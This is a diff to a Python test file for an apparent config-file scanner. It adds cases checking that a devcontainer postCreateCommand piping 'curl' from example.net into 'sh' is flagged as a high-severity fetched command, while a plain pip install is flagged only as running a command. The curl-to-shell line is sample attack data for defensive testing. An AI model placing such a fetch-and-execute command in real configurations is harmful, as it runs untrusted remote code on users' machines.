@@ -187,6 +187,11 @@ def test_servers_and_launchers_that_run_what_a_file_names() -> None:
     serve = {"model": {"modelName": "m", "handler": "image_classifier"}}
     assert rules(serve, "MANIFEST.json") == {}
     container = {"image": "python", "postCreateCommand": "curl -s http://example.net/x | sh"}
+    assert rules(container, "devcontainer.json") == {
+        "config.fetched-command": "high",
+        "config.runs-command": "medium",
+    }
+    container = {"image": "python", "postCreateCommand": "pip install -r requirements.txt"}
     assert rules(container, "devcontainer.json") == {"config.runs-command": "medium"}
     hook = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "echo"}]}]}}
     assert rules(hook, "settings.json") == {"config.runs-command": "medium"}
